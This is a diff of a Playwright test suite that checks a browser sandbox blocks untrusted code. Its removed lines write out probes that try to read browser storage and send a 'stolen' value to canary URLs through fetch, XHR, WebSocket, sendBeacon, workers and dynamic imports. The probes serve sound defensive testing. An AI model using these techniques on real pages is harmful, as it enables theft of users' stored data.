@@ -11,6 +11,7 @@ import { expect, test, type Page } from '@playwright/test';
 import { datasetHashes, openApp } from './util';
 import { useCanaries } from './canary';
 import { expectClean, expectNothingSent, expectResponsive, expectResponsiveOverCdp, openLowMemoryApp, PROBE } from './sandboxChecks';
+import { CODE_PROBES, expectProbes, NETWORK_PROBES, probeCalls, STORAGE_PROBES } from './sandboxProbes';
 
 // ── canaries ──
 
@@ -167,24 +168,10 @@ test('block attack 1: IndexedDB, Cache Storage, localStorage and other storage a
     page,
     'user/storage_thief/1',
     block(`${PROBE}
-    await probe("indexedDB.open", () => settle((ok, no) => { const q = indexedDB.open("algobox"); q.onsuccess = () => ok("opened " + q.result.objectStoreNames.length + " stores"); q.onerror = () => no(q.error); }));
-    await probe("indexedDB.databases", async () => JSON.stringify(await indexedDB.databases()));
-    await probe("caches", async () => typeof caches === "undefined" ? Promise.reject(new Error("caches is undefined")) : (await caches.keys()).join(","));
-    await probe("navigator.storage", async () => { if (!navigator.storage) throw new Error("navigator.storage is undefined"); return (await navigator.storage.getDirectory()).name; });
-    await probe("localStorage", () => { if (typeof localStorage === "undefined") throw new Error("localStorage is undefined"); return localStorage.length; });
-    await probe("sessionStorage", () => { if (typeof sessionStorage === "undefined") throw new Error("sessionStorage is undefined"); return sessionStorage.length; });
-    await probe("BroadcastChannel", () => { new BroadcastChannel("algobox").postMessage({ stolen: true }); return "posted"; });
-    await probe("origin", () => { throw new Error(self.origin + " secure=" + self.isSecureContext); });
+    ${probeCalls(STORAGE_PROBES)}
     throw new Error("RESULT " + JSON.stringify(out));`),
   );
-  const o = results(r);
-  expect(o['indexedDB.open']).toMatch(/^SecurityError: .*denied in this context/);
-  expect(o['indexedDB.databases']).not.toMatch(/^ok/);
-  expect(o.caches).toBe('Error: caches is undefined');
-  expect(o['navigator.storage']).toBe('Error: navigator.storage is undefined');
-  expect(o.localStorage).toBe('Error: localStorage is undefined');
-  expect(o.sessionStorage).toBe('Error: sessionStorage is undefined');
-  expect(o.origin).toBe('Error: null secure=false');
+  expectProbes(results(r), STORAGE_PROBES);
   expect(await page.evaluate(() => (window as unknown as { heard: unknown[] }).heard)).toEqual([]);
   await expectResponsive(page);
   await expectClean(page, before, canary);
@@ -198,40 +185,10 @@ test('block attack 2: fetch, XHR, WebSocket, EventSource, workers, importScripts
     'user/exfiltrator/1',
     block(`${PROBE}
     const stolen = String(x);
-    for (const [k, u] of [["node", C.node], ["app", C.app]]) {
-      await probe("fetch " + k, async () => (await fetch(u + "?d=" + stolen)).status);
-      await probe("fetch no-cors " + k, async () => (await fetch(u, { mode: "no-cors", method: "POST", body: stolen })).type);
-      await probe("xhr " + k, () => settle((ok, no) => { const q = new XMLHttpRequest(); q.open("GET", u); q.onload = () => ok(q.status); q.onerror = () => no(new Error("xhr error event")); q.send(); }));
-      await probe("EventSource " + k, () => settle((ok, no) => { const s = new EventSource(u); s.onopen = () => ok("open"); s.onerror = () => { s.close(); no(new Error("EventSource error event")); }; }));
-      await probe("Worker " + k, () => { new Worker(u + ".js"); return "started"; });
-      await probe("importScripts " + k, () => { importScripts(u + ".js"); return "loaded"; });
-    }
-    await probe("WebSocket", () => settle((ok, no) => { const s = new WebSocket(C.ws); s.onopen = () => ok("open"); s.onerror = () => no(new Error("WebSocket error event")); }));
-    await probe("sendBeacon", () => { if (!navigator.sendBeacon) throw new Error("sendBeacon is undefined"); return navigator.sendBeacon(C.node, stolen); });
-    // A classic script made here may call import(); the module it asks for is still blocked.
-    await probe("import() from a blob script", async () => {
-      importScripts(URL.createObjectURL(new Blob(["self.__p = import(" + JSON.stringify(C.node + ".js") + ");"], { type: "text/javascript" })));
-      await self.__p;
-      return "imported";
-    });
-    await probe("Function", () => new Function("return 1")());
-    await probe("leaked", () => { if (self.leaked) return "yes"; throw new Error("no"); });
+    ${probeCalls([...NETWORK_PROBES, ...CODE_PROBES])}
     throw new Error("RESULT " + JSON.stringify(out));`),
   );
-  const o = results(r);
-  for (const k of ['node', 'app']) {
-    expect(o[`fetch ${k}`]).toBe('TypeError: Failed to fetch');
-    expect(o[`fetch no-cors ${k}`]).toBe('TypeError: Failed to fetch');
-    expect(o[`xhr ${k}`]).toBe('Error: xhr error event');
-    expect(o[`EventSource ${k}`]).toBe('Error: EventSource error event');
-    expect(o[`Worker ${k}`]).toMatch(/^SecurityError: Failed to construct 'Worker'/);
-    expect(o[`importScripts ${k}`]).toMatch(/^NetworkError: .*failed to load/);
-  }
-  expect(o.WebSocket).toMatch(/^(Error: WebSocket error event|SecurityError: .*)$/);
-  expect(o.sendBeacon).toBe('Error: sendBeacon is undefined');
-  expect(o['import() from a blob script']).toMatch(/^TypeError: Failed to fetch dynamically imported module/);
-  expect(o.Function).toMatch(/^EvalError: /);
-  expect(o.leaked).toBe('Error: no');
+  expectProbes(results(r), [...NETWORK_PROBES, ...CODE_PROBES]);
 
   // Imports in the module itself are refused by the linker in the sandbox; the block fails at setup.
   const staticImport = await runBlock(page, 'user/net_static/1', block('', `import { x as y } from "${canary.urls().node}.js";`));
